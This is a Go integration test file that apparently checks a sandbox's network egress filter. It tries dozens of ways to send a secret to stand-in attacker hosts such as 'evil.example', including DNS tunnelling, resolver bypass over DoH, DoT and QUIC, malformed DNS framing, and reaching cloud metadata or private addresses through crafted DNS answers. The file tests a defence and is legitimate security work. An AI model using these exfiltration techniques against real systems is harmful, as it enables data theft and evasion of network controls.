package integration

import (
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/miekg/dns"
	"github.com/stretchr/testify/require"
)

// byAddress are ways to addresses that nobody has asked for.
func byAddress() []way {
	to := func(network, address string) func(*escape) {
		return func(x *escape) {
			if network == "udp" {
				x.datagram(address, x.secret)
			} else {
				x.request(address, x.secret+".example")
			}
		}
	}
	return []way{
		{name: "TCP to an address", try: to("tcp", evilAddress+":443")},
		{name: "TCP to an address of IPv6", try: to("tcp", "["+evilAddress6+"]:443")},
		{name: "UDP to an address", try: to("udp", evilAddress+":9999")},
		{name: "UDP to an address of IPv6", try: to("udp", "["+evilAddress6+"]:9999")},
		{name: "the address of a name that was not asked for", try: func(x *escape) {
			x.speakTLS(freshAddress+":443", x.web.client("fresh.example"), "fresh.example")
		}},
		{name: "time of another server", try: to("udp", evilAddress+":123")},
		{name: "the metadata of a cloud", try: to("tcp", metadata+":80"), always: "link-local addresses are closed"},
		{name: "a private network", try: to("tcp", "10.77.0.1:80")},
		{name: "a private network of IPv6", try: to("tcp", "[fd77::1]:80")},
		{name: "an address in IPv4-mapped form", try: func(x *escape) {
			x.sendUDP(9999, "[::ffff:"+evilAddress+"]:9999", x.secret)
		}, always: "the form is not for the wire"},
		{name: "an address behind NAT64", try: to("udp", "[64:ff9b::203.0.113.66]:9999")},
		{name: "an address behind 6to4", try: to("udp", "[2002:cb00:7142::1]:9999")},
		{name: "the host's own address", try: to("tcp", egressHost+":7000"), always: "the host is closed"},
		{name: "the host's own address of IPv6", try: to("tcp", "["+egressHost6+"]:7000"), always: "the host is closed"},
		{name: "the host at the router's address", try: func(x *escape) {
			for _, port := range []int{22, 53, 80, 111, 443, 631, 3128, 5351, 8080} {
				x.say(fmt.Sprintf("10.0.2.2:%d", port), x.secret)
				x.datagram(fmt.Sprintf("10.0.2.2:%d", port), x.secret)
			}
		}, always: "the host is closed"},
		{name: "other ports of the name server", try: func(x *escape) {
			for _, port := range []int{80, 443, 853, 5353} {
				x.say(fmt.Sprintf("10.0.2.3:%d", port), x.secret)
				x.datagram(fmt.Sprintf("10.0.2.3:%d", port), x.secret)
			}
		}, always: "the name server has one port"},
		{name: "a port beside those of the rule", try: func(x *escape) {
			x.lookUp("good.example")
			x.say(goodAddress+":8443", x.secret)
		}},
		{name: "another protocol than that of the rule", try: func(x *escape) {
			x.lookUp("ssh.example")
			x.datagram(sshAddress+":22", x.secret)
		}},
		{name: "UDP to the port of HTTP", try: func(x *escape) {
			x.lookUp("good.example")
			x.datagram(goodAddress+":80", x.secret)
		}},
		{name: "the port of a datagram's flow, to another server", try: func(x *escape) {
			var conn net.PacketConn
			require.NoError(x.t, x.guest.Do(func() (err error) {
				conn, err = net.ListenPacket("udp4", ":4500")
				return err
			}))
			defer conn.Close()
			for _, to := range []string{timeAddress + ":123", evilAddress + ":123"} {
				address, err := net.ResolveUDPAddr("udp", to)
				require.NoError(x.t, err)
				_, _ = conn.WriteTo([]byte(barrierText+to), address)
			}
		}},
		{name: "the port of a forward, to another server", try: func(x *escape) {
			x.sendUDP(5353, evilAddress+":5353", x.secret)
		}},
	}
}

// byNameService are ways by queries.
func byNameService() []way {
	asked := func(network, server string) func(*escape) {
		return func(x *escape) { x.ask(network, server, query(x.secret+".evil.example", dns.TypeA)) }
	}
	relayed := func(name string, kind uint16) func(*escape) {
		return func(x *escape) { x.ask("udp", guestServer, query(strings.ReplaceAll(name, "SECRET", x.secret), kind)) }
	}
	message := func(change func(x *escape, q *dns.Msg)) func(*escape) {
		return func(x *escape) {
			q := query("good.example", dns.TypeA)
			change(x, q)
			x.ask("udp", guestServer, q)
		}
	}
	return []way{
		{name: "a name server of its own, by UDP", try: asked("udp", "8.8.8.8:53")},
		{name: "a name server of its own, by TCP", try: asked("tcp", "8.8.8.8:53")},
		{name: "a name server of its own, by IPv6", try: asked("udp", "[2001:4860:4860::8888]:53")},
		{name: "the host's resolver itself", try: asked("udp", resolver+":53")},
		{name: "the host's resolver itself, by TCP", try: asked("tcp", resolver+":53")},
		{name: "a name server at a server that a rule names", try: func(x *escape) {
			x.lookUp("every.example")
			x.ask("tcp", "203.0.113.34:53", query(x.secret+".evil.example", dns.TypeA))
		}},
		{name: "DNS over TLS", try: func(x *escape) {
			x.speakTLS("1.1.1.1:853", x.web.client("one.one.one.one"), "one.one.one.one")
		}},
		{name: "DNS over TLS at a server that a rule names", try: func(x *escape) {
			x.lookUp("every.example")
			x.speakTLS("203.0.113.34:853", x.web.client("every.example"), "every.example")
		}},
		{name: "DNS over HTTPS by its address", try: func(x *escape) {
			x.speakTLS("1.1.1.1:443", x.web.client(""), "1.1.1.1")
		}},
		{name: "DNS over HTTPS by its name", try: func(x *escape) {
			for _, address := range x.lookUp("dns.google") {
				x.speakTLS(address+":443", x.web.client("dns.google"), "dns.google")
			}
			x.speakTLS("8.8.8.8:443", x.web.client("dns.google"), "dns.google")
		}},
		{name: "DNS over HTTPS by its name, at a server that a rule names", try: func(x *escape) {
			x.lookUp("good.example")
			x.speakTLS(goodAddress+":443", x.web.client("dns.google"), "dns.google")
		}},
		{name: "DNS over QUIC", try: func(x *escape) { x.datagram("94.140.14.140:853", x.secret) }},
		{name: "a query for a name that no rule has", try: relayed("SECRET.evil.example", dns.TypeA)},
		{name: "such a query for AAAA", try: relayed("SECRET.evil.example", dns.TypeAAAA)},
		{name: "such a query in upper case", try: relayed("SECRET.EVIL.EXAMPLE", dns.TypeA)},
		{name: "such a query for text", try: relayed("SECRET.evil.example", dns.TypeTXT)},
		{name: "such a query for NULL", try: relayed("SECRET.evil.example", dns.TypeNULL)},
		{name: "such a query for a pointer", try: relayed("SECRET.in-addr.arpa", dns.TypePTR)},
		{name: "such a query of the longest labels", try: relayed("SECRET"+strings.Repeat(".x23456789012345678901234567890123456789012345678901234567890123", 3)+".evil.example", dns.TypeTXT)},
		{name: "such a query by IPv6", try: func(x *escape) { x.ask("udp", guestServer6, query(x.secret+".evil.example", dns.TypeA)) }},
		{name: "such a query by TCP", try: func(x *escape) { x.ask("tcp", guestServer, query(x.secret+".evil.example", dns.TypeA)) }},
		{name: "such a query behind a good one on a connection", try: func(x *escape) {
			conn := x.dial("tcp", guestServer)
			if conn == nil {
				return
			}
			defer conn.Close()
			c := &dns.Conn{Conn: conn}
			_ = c.WriteMsg(query("good.example", dns.TypeA))
			_, _ = c.ReadMsg()
			_ = c.WriteMsg(query(x.secret+".evil.example", dns.TypeA))
			_, _ = c.ReadMsg()
		}},
		{name: "such a query with a good one in one segment, in pieces", try: func(x *escape) {
			good, err := query("good.example", dns.TypeA).Pack()
			require.NoError(x.t, err)
			bad, err := query(x.secret+".evil.example", dns.TypeA).Pack()
			require.NoError(x.t, err)
			text := string([]byte{0, byte(len(good))}) + string(good) + string([]byte{0, byte(len(bad))}) + string(bad)
			x.say(guestServer, text[:len(good)+9], text[len(good)+9:])
		}},
		{name: "such queries one behind the other on a connection", try: func(x *escape) {
			text := ""
			for i := range 20 {
				text += framed(x, query(fmt.Sprintf("%s-%d.evil.example", x.secret, i), dns.TypeA))
			}
			x.say(guestServer, text)
		}},
		{name: "such a query byte by byte on a connection", try: func(x *escape) {
			x.say(guestServer, strings.Split(framed(x, query(x.secret+".evil.example", dns.TypeA)), "")...)
		}},
		{name: "bytes behind a query on a connection, within its length", try: func(x *escape) {
			text := framed(x, query("good.example", dns.TypeA))[2:] + x.secret
			x.say(guestServer, string([]byte{0, byte(len(text))})+text)
		}},
		{name: "a query on a connection whose length is that of a part", try: func(x *escape) {
			text := framed(x, query(x.secret+".evil.example", dns.TypeA))
			x.say(guestServer, string([]byte{0, 20})+text[2:])
		}, always: "a message is as long as its length says"},
		{name: "a query on a connection whose length goes beyond it", try: func(x *escape) {
			x.say(guestServer, "\xff\xff"+framed(x, query(x.secret+".evil.example", dns.TypeA))[2:])
		}, always: "the relay passes queries of up to 4096 bytes on"},
		{name: "a second question on a connection", try: func(x *escape) {
			q := query("good.example", dns.TypeA)
			q.Question = append(q.Question, dns.Question{Name: x.secret + ".evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
			x.ask("tcp", guestServer, q)
		}, always: "the relay passes queries of one question on"},
		{name: "a name below an exact one", try: relayed("SECRET.good.example", dns.TypeA)},
		{name: "a name that ends like one", try: relayed("SECRETgood.example", dns.TypeA)},
		{name: "a name that begins like one", try: relayed("good.example.SECRET.example", dns.TypeA)},
		{name: "a name that a rule refuses, below one that is allowed", try: func(x *escape) {
			x.lookUp("bad.cdn.example")
			x.lookUp("a.cdn.example")
			x.request(cdnAddress+":80", "bad.cdn.example")
			x.speakTLS(cdnAddress+":443", x.web.client("bad.cdn.example"), "bad.cdn.example")
		}},
		{name: "a tunnel of names below one that is allowed", try: relayed("SECRET.cdn.example", dns.TypeTXT),
			passes: "who owns the zone sees what is asked for in it: a rule with a wildcard trusts him"},
		{name: "a second question", try: message(func(x *escape, q *dns.Msg) {
			q.Question = append(q.Question, dns.Question{Name: x.secret + ".evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		}), always: "the relay passes queries of one question on"},
		{name: "an update", try: message(func(x *escape, q *dns.Msg) {
			q.SetUpdate("good.example.")
			q.Ns = append(q.Ns, record(x.secret+".good.example. 60 A 192.0.2.1"))
		}), always: "the relay passes ordinary queries on"},
		{name: "a notification", try: message(func(x *escape, q *dns.Msg) { q.SetNotify(x.secret + ".good.example.") }),
			always: "the relay passes ordinary queries on"},
		{name: "a record behind the question", try: message(func(x *escape, q *dns.Msg) {
			q.Extra = append(q.Extra, record(x.secret+".evil.example. 60 A 192.0.2.1"))
		})},
		{name: "an answer in a query", try: message(func(x *escape, q *dns.Msg) {
			q.Answer = append(q.Answer, record(x.secret+".evil.example. 60 A 192.0.2.1"))
		})},
		{name: "an option of EDNS", try: message(func(x *escape, q *dns.Msg) {
			q.SetEdns0(1232, false)
			o := q.IsEdns0()
			o.Option = append(o.Option, &dns.EDNS0_LOCAL{Code: dns.EDNS0LOCALSTART, Data: []byte(x.secret)})
		})},
		{name: "bytes behind a query", try: func(x *escape) {
			q, err := query("good.example", dns.TypeA).Pack()
			require.NoError(x.t, err)
			conn := x.dial("udp", guestServer)
			if conn == nil {
				return
			}
			defer conn.Close()
			require.NoError(x.t, conn.SetDeadline(time.Now().Add(time.Second)))
			_, _ = conn.Write(append(q, x.secret...))
			readOnce(conn)
		}},
		{name: "another class", try: message(func(x *escape, q *dns.Msg) {
			q.Question[0] = dns.Question{Name: x.secret + ".evil.example.", Qtype: dns.TypeTXT, Qclass: dns.ClassCHAOS}
		})},
		{name: "a transfer of a zone", try: func(x *escape) {
			x.ask("tcp", guestServer, new(dns.Msg).SetAxfr(x.secret+".evil.example."))
			x.ask("tcp", guestServer, new(dns.Msg).SetIxfr(x.secret+".evil.example.", 1, "ns.", "mail."))
		}, always: "transfers are refused"},
		{name: "a transfer of a zone that a rule names", try: func(x *escape) {
			for _, q := range []*dns.Msg{new(dns.Msg).SetAxfr("good.example."), new(dns.Msg).SetIxfr("good.example.", 1, "ns.", x.secret+".good.example.")} {
				if m := x.ask("tcp", guestServer, q); m == nil || m.Rcode != dns.RcodeRefused {
					x.t.Error("a transfer is not refused")
				}
			}
		}, always: "transfers are refused"},
	}
}

// framed returns a message as a connection carries it.
func framed(x *escape, m *dns.Msg) string {
	packed, err := m.Pack()
	require.NoError(x.t, err)
	return string([]byte{byte(len(packed) >> 8), byte(len(packed))}) + string(packed)
}

// byAnswers are ways to where an answer leads that a rule allows.
func byAnswers() []way {
	all := []way{
		{name: "an address in the additional section", try: func(x *escape) {
			x.names.address(x.label+".cdn.example", 60, cdnAddress)
			x.names.add(x.label+".cdn.example", "evil.example. 60 A "+evilAddress, x.label+"-more.cdn.example. 60 A 203.0.113.71")
			x.lookUp(x.label + ".cdn.example")
			x.request(evilAddress+":80", x.label+".cdn.example")
			x.request("203.0.113.71:80", x.label+"-more.cdn.example")
		}},
		{name: "an address of a name beside the one that was asked for", try: func(x *escape) {
			x.names.beside(x.label+".cdn.example", x.label+"-other.cdn.example. 60 A 203.0.113.72")
			x.lookUp(x.label + ".cdn.example")
			x.request("203.0.113.72:80", x.label+"-other.cdn.example")
			x.request("203.0.113.72:80", x.label+".cdn.example")
		}},
		{name: "an alias to what the rule does not list", try: func(x *escape) {
			x.names.tell("listed.example", "60 CNAME alias.evil.example.")
			x.names.address("alias.evil.example", 60, "203.0.113.73")
			x.lookUp("listed.example")
			x.request("203.0.113.73:80", "listed.example")
		}},
		{name: "a chain of a hundred aliases", try: func(x *escape) {
			for i := range 100 {
				x.names.tell(fmt.Sprintf("%s-%d.cdn.example", x.label, i), fmt.Sprintf("60 CNAME %s-%d.cdn.example.", x.label, i+1))
			}
			x.names.address(x.label+"-100.cdn.example", 60, "203.0.113.74")
			x.lookUp(x.label + "-0.cdn.example")
			x.request("203.0.113.74:80", x.label+"-0.cdn.example")
		}},
		{name: "aliases that turn in a circle", try: func(x *escape) {
			x.names.tell(x.label+"-a.cdn.example", "60 CNAME "+x.label+"-b.cdn.example.")
			x.names.tell(x.label+"-b.cdn.example", "60 CNAME "+x.label+"-a.cdn.example.")
			x.names.beside(x.label+"-a.cdn.example", "evil.example. 60 A 203.0.113.75")
			x.lookUp(x.label + "-a.cdn.example")
			x.request("203.0.113.75:80", x.label+"-a.cdn.example")
		}},
		{name: "a hint of an HTTPS record", try: func(x *escape) { hinted(x, dns.TypeHTTPS) }},
		{name: "a hint of an SVCB record", try: func(x *escape) { hinted(x, dns.TypeSVCB) }},
		{name: "all records of a name at once", try: func(x *escape) { hinted(x, dns.TypeANY) }},
		{name: "the answer to another guest", try: func(x *escape) {
			x.names.address(x.label+".cdn.example", 60, "203.0.113.76")
			require.Equal(x.t, []string{"203.0.113.76"}, x.asNeighbour().lookUp(x.label+".cdn.example"))
			x.request("203.0.113.76:80", x.label+".cdn.example")
		}},
	}
	for _, c := range []struct{ kind, address, always string }{
		{"the host's loopback", "127.0.0.1", "the host is closed"},
		{"the host's loopback of IPv6", "::1", "the host is closed"},
		{"the loopback in IPv4-mapped form", "::ffff:127.0.0.1", "the host is closed"},
		{"the host's address", egressHost, "the host is closed"},
		{"the host's address of IPv6", egressHost6, "the host is closed"},
		{"the metadata of a cloud", metadata, "link-local addresses are closed"},
		{"a link-local address", "fe80::2", "link-local addresses are closed"},
		{"a private network of class A", "10.99.0.1", ""},
		{"a private network of class B", "172.20.0.1", ""},
		{"a private network of class C", "192.168.7.7", ""},
		{"a private network of IPv6", "fd99::1", ""},
		{"a network of a carrier", "100.64.7.7", ""},
		{"the guest's router", "10.0.2.2", "the host is closed"},
		{"another guest", "10.0.2.77", "guests do not reach each other"},
		{"no address", "0.0.0.0", "no such destination"},
		{"a group of multicast", "224.0.0.251", "groups are closed"},
		{"everybody", "255.255.255.255", "nobody is there"},
		{"the loopback behind NAT64", "64:ff9b::7f00:1", "the host is closed"},
		{"a private network behind 6to4", "2002:a63:1::1", ""},
	} {
		all = append(all, way{name: "an answer that leads to " + c.kind, always: c.always, try: func(x *escape) {
			kind := dns.TypeA
			if strings.Contains(c.address, ":") {
				kind = dns.TypeAAAA
			}
			x.names.address(x.label+".cdn.example", 60, c.address)
			x.lookUpAs(x.label+".cdn.example", kind)
			x.request(net.JoinHostPort(c.address, "80"), x.label+".cdn.example")
		}})
	}
	return all
}

// hinted asks for records that lead elsewhere, and goes there.
func hinted(x *escape, kind uint16) {
	to := ""
	if m := x.ask("udp", guestServer, query("good.example", kind)); m != nil {
		for _, r := range m.Answer {
			if strings.Contains(r.String(), hintAddress) {
				to = hintAddress
			}
		}
	}
	if x.rules {
		require.Empty(x.t, to, "a hint reached the guest")
	}
	x.speakTLS(hintAddress+":443", x.web.client("good.example"), x.secret)
}

// request sends a request by HTTP that names a host.
func (x *escape) request(to, host string) {
	x.t.Helper()
	x.say(to, "GET / HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
}
